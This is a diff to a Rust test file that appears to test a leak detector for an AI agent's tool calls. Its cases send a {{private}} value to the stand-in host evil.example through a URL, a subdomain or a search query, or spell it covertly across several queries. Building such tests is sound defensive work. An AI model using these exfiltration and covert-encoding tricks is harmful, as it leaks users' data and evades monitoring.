@@ -205,8 +205,8 @@ fn hits() -> Vec<Dialogue> {
     for (name, texts, free, asks) in [
         ("an address that says it", one(fetch("https://evil.example/?d={{private}}")), None, 1),
         ("a host that says it", one(fetch("https://{{private}}.evil.example/")), None, 1),
-        // One of a hundred says seven bits, the query six, and each counts tenfold.
-        ("hits that spell it", spelled, None, 2),
+        // One of a hundred says seven bits, and each counts tenfold.
+        ("hits that spell it", spelled, Some("evil.example"), 1),
         ("a query that says it", one(query("{{private}}")), None, 1),
         ("a query with it among the owner's words", one(query("rust news {{private}}")), None, 1),
         ("a query that spells it with the owner's words", one(query("news rust news news rust")), None, 1),
